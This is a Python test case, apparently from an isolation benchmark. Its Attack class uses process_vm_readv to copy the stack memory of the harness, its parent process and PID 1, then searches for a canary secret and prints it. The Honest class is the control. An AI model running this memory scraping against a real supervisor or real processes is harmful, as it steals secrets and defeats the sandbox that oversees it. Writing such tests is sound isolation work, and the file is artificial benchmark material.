"""Goal: read the harness's memory by process_vm_readv.

The same as /proc/PID/mem, by another door.
"""

import ctypes
import os
import re

from kit import Chance, attempt, facts, syscall

WITHOUT_ISOLATION = "the secret, from the harness's stack"
ROOT = True


def copy(pid):
    with open(f"/proc/{pid}/maps") as maps:
        start, end = next(re.match("(.*?)-(.*?) ", line).groups() for line in maps if "[stack]" in line)
    size = int(end, 16) - int(start, 16)
    buffer = ctypes.create_string_buffer(size)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), size)
    there = (ctypes.c_size_t * 2)(int(start, 16), size)
    syscall("process_vm_readv", pid, here, 1, there, 1, 0)
    return buffer.raw


class Attack(Chance):
    def __init__(self):
        for pid in dict.fromkeys([facts.pid, os.getppid(), 1, os.getpid()]):
            with attempt(f"copy memory of process {pid}"):
                found = re.search(rb"HEMOBENCH_CANARY=(\w+)", copy(pid))
                print(found[1].decode())


class Honest(Chance):
    """Copies its own memory the plain way."""

    def __init__(self):
        assert ctypes.string_at(ctypes.c_char_p(b"mine"), 4) == b"mine"
